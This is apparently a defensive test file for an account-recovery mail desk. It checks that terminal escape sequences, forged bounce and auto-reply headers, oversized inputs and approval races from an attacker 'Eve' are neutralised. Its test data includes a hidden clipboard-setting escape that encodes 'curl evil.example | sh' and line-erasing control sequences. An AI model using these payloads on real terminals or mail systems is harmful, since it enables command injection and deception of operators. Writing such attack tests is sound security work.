// Attacks tried in stop 24 (docs/security-log.md "Attacks tried in stop 24"): Eve has the password, writes to
// support from anywhere and signs mail of her own domain. This pass aims at what the earlier ones
// left: the operator's terminal (the command line prints her text), races of one agent against the two-approver rule, and the kind-deciding headers
// a signature did not cover. Real pipeline (PostgreSQL, Redis, BullMQ workers, an SMTP sink), mail
// genuinely DKIM-signed against the offline zone, the console over Fastify's inject and the
// command line as a process. Each attack has a control that differs only in the attacked detail.
import { eq } from 'drizzle-orm';
import { beforeAll, describe, expect, test } from 'vitest';
import { accounts, inboundMessages, tickets } from '../../src/adapters/db/schema/index.ts';
import { approvalsOf } from '../../src/adapters/db/agents.repository.ts';
import { approveTicket } from '../../src/steps/approve-ticket.ts';
import { runDueReset } from '../../src/steps/reset-2fa.ts';
import { disputeByToken } from '../../src/steps/holder-dispute.ts';
import type { TestEnv } from '../support/app.ts';
import {
  deliver,
  deliverOne,
  expectTwoFactorUntouched,
  rawMessage,
  request,
  settleOutbox,
  useRedTeam,
  useRedTeamConsole,
  OVERRIDE_REASON,
  runCli,
} from '../support/security.ts';
import type { SmtpSink } from '../support/smtp-sink.ts';
import { codeAt } from '../e2e/console-support.ts';

const team = useRedTeam('stop24-', { RECOVERY_CANCEL_WINDOW: '24h', RECOVERY_CHALLENGE: 'off' });
const { running, victim, signed, ticketRow } = team;
const web = useRedTeamConsole('stop24-', running);
const agent = () => web.agent();
let sink: SmtpSink;
let env: TestEnv;
beforeAll(() => {
  ({ sink, env } = running());
});

/** The recovery-desk command line against this suite's database, queues and SMTP sink. */
const cli = (args: string[]) => runCli(env, sink, args);

// What a terminal obeys: C0 controls but the line feed (ESC starts CSI/OSC sequences: move the
// cursor up, erase a line, conceal, set the clipboard with OSC 52, a hyperlink with OSC 8), DEL,
// the C1 controls (U+009B is CSI on its own), and the bidi format characters of terminals that
// reorder (U+202E).
const TERMINAL_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/u;
const ESC = '\u001b';
/** Moves the cursor up and erases the line: the row above (the holder's ticket, say) is gone from the screen. */
const ERASE_ABOVE = `${ESC}[1A${ESC}[2K\r`;

describe('the operator’s terminal: the command line prints what Eve wrote', () => {
  test('tickets list / show and quarantine list print her address, Message-ID and fields with every control shown as a code point, never obeyed', async () => {
    const v = await victim();
    // Eve's forgery in the holder's name: a complete request (the holder's name and organisation,
    // a C1 CSI and a bidi override in the organisation), From an address holding escape sequences.
    const from = `Eve <${ERASE_ABOVE}eve@evil.example>`;
    const org = 'Good Example SRL\u009b2K\u202e';
    const forged = rawMessage({ from, subject: 'Lost my phone', body: request('Alice Martin', org), messageId: `<stop24-dup-${Date.now()}@evil.example>` });
    const first = await deliverOne(env, forged);
    const again = await deliverOne(env, `Received: from relay.evil.example by mx.bpart.test; ${new Date().toUTCString()}\r\n${forged}`);
    expect(first!.ticketId).not.toBeNull();
    // The refused address opens an unmatched ticket for no account (SPEC §5), listed by `tickets list`.
    expect(again.ticketId).not.toBeNull();
    // A message quarantined before parsing (too many MIME parts), its Message-ID an OSC 52 (set the clipboard) and a
    // "conceal" that hides every later row.
    const parts = Array.from({ length: 520 }, (_, i) => `--b\r\nContent-Type: text/plain\r\n\r\npart ${i}\r\n`).join('');
    const bomb = rawMessage({
      from: 'Eve <eve@evil.example>',
      messageId: `<x${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007${ESC}[8m@evil.example>`,
      contentType: 'multipart/mixed; boundary="b"',
      body: `${parts}--b--`,
    });
    const quarantined = await deliverOne(env, bomb);
    expect(quarantined.status).toBe('quarantined');
    const ticket = await ticketRow(first!.ticketId!);

    const outputs = {
      list: await cli(['tickets', 'list']),
      show: await cli(['tickets', 'show', ticket.ref]),
      quarantine: await cli(['quarantine', 'list']),
      showJson: await cli(['tickets', 'show', ticket.ref, '--json']),
      listJson: await cli(['tickets', 'list', '--json']),
    };
    for (const [name, out] of Object.entries(outputs)) {
      expect(out.code, `${name}: ${out.stderr}`).toBe(0);
      // Before: the raw ESC / OSC / C1 / U+202E bytes went to the terminal.
      expect(TERMINAL_CONTROL.exec(out.stdout)?.[0].codePointAt(0)?.toString(16) ?? null, name).toBeNull();
    }
    // Held already: the address parser drops control characters from an address, so the refused
    // sender's row reads "[1a[2keve@…" as plain text.
    expect(outputs.list.stdout).toContain('[1a[2keve@evil.example');
    expect(outputs.quarantine.stdout).toContain('[U+001B]]52;c;');
    expect(outputs.show.stdout).toContain('Good Example SRL[U+009B]2K[U+202E]');
    // Before: `quarantine list` wrote Eve's Message-ID raw (OSC 52: the clipboard set to a command;
    // ESC [8m: every later row concealed), `tickets show` her organisation's C1 CSI and U+202E.
    // The JSON forms keep their values (the escapes are JSON's own), only spelled so no terminal obeys them.
    const shown = JSON.parse(outputs.showJson.stdout) as { fields: { organisation: string } };
    expect(shown.fields.organisation).toBe(org);
    const listed = JSON.parse(outputs.listJson.stdout) as { ref: string }[];
    expect(listed.map((row) => row.ref)).toContain(ticket.ref);
    await expectTwoFactorUntouched(env, [v.email]);
  });

  test('control: ordinary names in other scripts are printed as written', async () => {
    const v = await victim();
    const opened = await deliverOne(env, await signed(rawMessage({ from: `"Zoë Ḿartin" <${v.email}>`, body: request('Zoë Ḿartin', 'Ελένη SRL') }), v.domain));
    const ticket = await ticketRow(opened.ticketId!);
    const show = await cli(['tickets', 'show', ticket.ref]);
    expect(show.stdout).toContain('Ελένη SRL');
    expect(show.stdout).not.toContain('[U+');
    expect((await cli(['tickets', 'list'])).stdout).toContain(v.email);
  });
});

describe('one agent against the two-approver rule', () => {
  test('the same agent approving a forged ticket twice at once (this step’s code and the next one’s) counts once', async () => {
    const v = await victim();
    const opened = await deliverOne(env, rawMessage({ from: `Alice Martin <${v.email}>`, body: request('Alice Martin', 'Good Example SRL') }));
    const ticket = await ticketRow(opened.ticketId!);
    expect(ticket.signals.senderAuthenticated).toBe(false);
    const a = await agent();
    const attempts = await Promise.allSettled(
      [0, 1].map(async (steps) =>
        approveTicket(env.app.deps, { ref: ticket.ref, agentEmail: a.email, totpCode: await codeAt(a.totpSecret, steps), reason: OVERRIDE_REASON }),
      ),
    );
    const approved = attempts.filter((r) => r.status === 'fulfilled');
    expect(approved).toHaveLength(1);
    expect(approved[0]).toMatchObject({ value: { status: 'awaiting_second_approver' } });
    expect(await approvalsOf(env.app.deps.db, ticket.id)).toHaveLength(1);
    expect((await ticketRow(ticket.id)).status).toBe('ready');
    // Control: a second, different agent completes it.
    const b = await agent();
    expect(
      await approveTicket(env.app.deps, { ref: ticket.ref, agentEmail: b.email, totpCode: await codeAt(b.totpSecret), reason: OVERRIDE_REASON }),
    ).toMatchObject({
      status: 'approved',
    });
    const [row] = await env.app.deps.db.select({ id: inboundMessages.id }).from(inboundMessages).where(eq(inboundMessages.id, opened.id));
    expect(row).toBeDefined();
  });
});

describe('an address longer than an index entry', () => {
  // PostgreSQL's btree refuses an entry over about 2,700 bytes ("index row size exceeds btree maximum").
  // Random letters: PostgreSQL compresses a repeated one below the limit.
  const long = (n: number) =>
    `${Array.from({ length: n }, () => 'abcdefghijklmnopqrstuvwxyz0123456789'[Math.floor(Math.random() * 36)]).join('')}@evil.example`;

  test('Eve’s forgery From a 9,000-character address, stored with the holder’s request: both are read, hers shown as an unmatched forgery', async () => {
    const v = await victim();
    const holder = await signed(rawMessage({ from: `Alice Martin <${v.email}>`, body: request('Alice Martin', 'Good Example SRL') }), v.domain);
    const address = long(9000);
    const eve = rawMessage({ from: `Eve <${address}>`, body: request('Alice Martin', 'Good Example SRL') });
    const [hers, theirs] = await deliver(env, [eve, holder], 60_000);
    // Before: the unmatched ticket's sender (the raw address, indexed) failed the statement five
    // times: quarantined, processing_failed, never shown to agents as the forgery it is.
    expect(hers).toMatchObject({ status: 'processed', outcome: 'ticket_opened', authenticated: false, reason: 'invalid_address' });
    const ticket = await ticketRow(hers!.ticketId!);
    expect(ticket.status).toBe('unmatched');
    expect(ticket.senderAddress).toBe(`${address.slice(0, 320)}…`);
    // Control: the holder's signed request stored with it opens their ticket, acknowledged at the stored address.
    expect(theirs).toMatchObject({ status: 'processed', outcome: 'ticket_opened', authenticated: true });
    expect(sink.messages.some((m) => m.envelope.to.includes(v.email))).toBe(true);
    await expectTwoFactorUntouched(env, [v.email]);
  });
});

describe('headers no signature covered that decide the kind: Eve’s copy of the holder’s request goes first', () => {
  // The holder writes to support and Cc's Eve (a colleague's address she took over, or a reply-all
  // to her mail). Eve adds, above the holder's signature, headers that make a message automatic,
  // list or bounce mail, and delivers her copy before the holder's own arrives: is the holder's
  // request then a "duplicate" of a message nobody acts on?
  const ADDED: Record<string, string[]> = {
    'X-Autoreply': ['X-Autoreply: yes'],
    'Auto-Submitted': ['Auto-Submitted: auto-replied'],
    'List-Id and Precedence': ['List-Id: <staff.evil.example>', 'Precedence: bulk'],
    'X-Failed-Recipients and a null Return-Path': ['Return-Path: <>', 'X-Failed-Recipients: alice@elsewhere.example'],
  };

  for (const [name, added] of Object.entries(ADDED)) {
    test(`${name}: the holder's own copy still opens their ticket and is acknowledged at the stored address`, async () => {
      const v = await victim();
      const holder = await signed(
        rawMessage({ from: `Alice Martin <${v.email}>`, headers: ['Cc: eve@evil.example'], body: request('Alice Martin', 'Good Example SRL') }),
        v.domain,
      );
      const eves = await deliverOne(env, `${added.join('\r\n')}\r\n${holder}`);
      expect(eves.kind).not.toBe('recovery_request');
      expect(eves.ticketId).toBeNull();
      const theirs = await deliverOne(env, holder);
      expect(theirs).toMatchObject({ outcome: 'ticket_opened', authenticated: true, kind: 'recovery_request' });
      expect((await ticketRow(theirs.ticketId!)).status).toBe('ready');
      expect(sink.messages.filter((m) => m.envelope.to.includes(v.email))).toHaveLength(1);
    });
  }

  test('the same in our thread: the holder’s answer to our request for details (Cc Eve), her copy marked X-Autoreply first: the answer still fills in the organisation', async () => {
    const v = await victim();
    const ticket = await team.askedForOrganisation(v);
    const ours = sink.messages.filter((m) => m.envelope.to.includes(v.email)).at(-1)?.messageId;
    const answer = await signed(
      rawMessage({
        from: `Alice Martin <${v.email}>`,
        subject: `Re: [${ticket.ref}] More details needed`,
        headers: [`In-Reply-To: ${ours}`, `References: ${ours}`, 'Cc: eve@evil.example'],
        body: request('Alice Martin', 'Good Example SRL'),
      }),
      v.domain,
    );
    // Her copy is authenticated (a thread claim is checked) and read as an auto-reply: a timeline note.
    const eves = await deliverOne(env, `X-Autoreply: yes\r\n${answer}`);
    expect(eves).toMatchObject({ kind: 'auto_reply', authenticated: true, outcome: 'ignored' });
    expect((await ticketRow(ticket.id)).missing).toEqual(['organisation']);
    const theirs = await deliverOne(env, answer);
    expect(theirs).toMatchObject({ outcome: 'ticket_updated', ticketId: ticket.id });
    expect((await ticketRow(ticket.id)).missing).toEqual([]);
  });

  test('control: Eve’s copy without added headers is the holder’s request itself (it opens the ticket, the holder’s copy is the duplicate)', async () => {
    const v = await victim();
    const holder = await signed(
      rawMessage({ from: `Alice Martin <${v.email}>`, headers: ['Cc: eve@evil.example'], body: request('Alice Martin', 'Good Example SRL') }),
      v.domain,
    );
    const eves = await deliverOne(env, `Received: from mx.evil.example by mx.bpart.test; ${new Date().toUTCString()}\r\n${holder}`);
    expect(eves).toMatchObject({ outcome: 'ticket_opened', authenticated: true });
    const theirs = await deliverOne(env, holder);
    expect(theirs).toMatchObject({ outcome: 'ignored', reason: 'duplicate_message_id', ticketId: eves.ticketId });
    expect(sink.messages.filter((m) => m.envelope.to.includes(v.email))).toHaveLength(1);
  });
});

describe('forged bounces and auto-replies to our approval notice; the holder’s dispute against the due reset', () => {
  // Eve cannot stop a recovery she did not start, but she can try to make the product believe the
  // holder was never told (the due reset then voids the approval: the holder's genuine recovery
  // stalls), or that their address bounces. Refs are drawn in order: she knows the ticket's.
  async function approvedGenuine() {
    const v = await victim();
    const opened = await deliverOne(
      env,
      await signed(rawMessage({ from: `Alice Martin <${v.email}>`, body: request('Alice Martin', 'Good Example SRL') }), v.domain),
    );
    const ticket = await ticketRow(opened.ticketId!);
    const a = await agent();
    expect(await approveTicket(env.app.deps, { ref: ticket.ref, agentEmail: a.email, totpCode: await codeAt(a.totpSecret) })).toMatchObject({
      status: 'approved',
    });
    await settleOutbox(env);
    const notice = sink.messages.filter((m) => m.envelope.to.includes(v.email)).at(-1)!;
    expect(notice.headers.get('x-recovery-desk-kind')).toBe('approved_notice');
    return { v, ticket, notice };
  }
  async function windowEnds(ticketId: number) {
    await env.app.deps.db
      .update(tickets)
      .set({ resetDueAt: new Date(Date.now() - 1_000) })
      .where(eq(tickets.id, ticketId));
    return runDueReset(env.app.deps, ticketId);
  }

  test('a forged delivery report and a forged out-of-office for the notice, naming the stored address: the reset still runs when the window ends', async () => {
    const { v, ticket, notice } = await approvedGenuine();
    const report = rawMessage({
      from: `Mail Delivery System <MAILER-DAEMON@${v.domain}>`,
      subject: `Undelivered Mail Returned to Sender: [${ticket.ref}]`,
      headers: [`In-Reply-To: ${notice.messageId}`, `References: ${notice.messageId}`, `X-Failed-Recipients: ${v.email}`],
      contentType: 'multipart/report; report-type=delivery-status; boundary="r"',
      body: [
        '--r',
        'Content-Type: text/plain',
        '',
        `Delivery to the following recipient failed permanently: ${v.email}`,
        '--r',
        'Content-Type: message/delivery-status',
        '',
        `Final-Recipient: rfc822; ${v.email}`,
        'Action: failed',
        'Status: 5.1.1',
        '--r--',
      ].join('\n'),
    });
    const away = rawMessage({
      from: `Alice Martin <${v.email}>`,
      subject: `Automatic reply: [${ticket.ref}] Your two-factor reset`,
      headers: [`In-Reply-To: ${notice.messageId}`, 'Auto-Submitted: auto-replied'],
      body: 'I am out of the office until next month and read no mail.',
    });
    const rows = await deliver(env, [report, away]);
    expect(rows.map((r) => r.kind)).toEqual(['bounce', 'auto_reply']);
    const after = await ticketRow(ticket.id);
    expect(after.status).toBe('approved');
    expect(after.signals.flags ?? []).not.toContain('unverified_message_received');
    expect(await windowEnds(ticket.id)).toEqual({ result: 'done' });
  });

  test('the holder’s “This wasn’t me” at the very moment the window ends, five times: either the reset ran first (done, flagged) or the dispute did (cancelled, 2FA kept), never both', async () => {
    for (let round = 0; round < 5; round += 1) {
      const { v, ticket, notice } = await approvedGenuine();
      const token = /\/r\/not-me\/([A-Za-z0-9_-]+)/.exec(notice.parsed.text ?? '')?.[1];
      expect(token).toBeDefined();
      await env.app.deps.db
        .update(tickets)
        .set({ resetDueAt: new Date(Date.now() - 1_000) })
        .where(eq(tickets.id, ticket.id));
      const [reset, dispute] = await Promise.all([runDueReset(env.app.deps, ticket.id), disputeByToken(env.app.deps, token!)]);
      const after = await ticketRow(ticket.id);
      const [account] = await env.app.deps.db.select({ totp: accounts.totpSecret }).from(accounts).where(eq(accounts.email, v.email));
      expect(after.signals.flags).toContain('holder_disputed');
      if (reset.result === 'done') {
        expect(dispute).toEqual({ result: 'flagged', ref: ticket.ref });
        expect(after.status).toBe('done');
        expect(account?.totp).toBeNull();
      } else {
        expect(dispute).toEqual({ result: 'cancelled', ref: ticket.ref });
        expect(after.status).toBe('cancelled');
        expect(account?.totp).not.toBeNull();
      }
    }
  });

  test('control: the same approval with nothing from Eve: the reset runs when the window ends', async () => {
    const { ticket } = await approvedGenuine();
    expect(await windowEnds(ticket.id)).toEqual({ result: 'done' });
  });
});
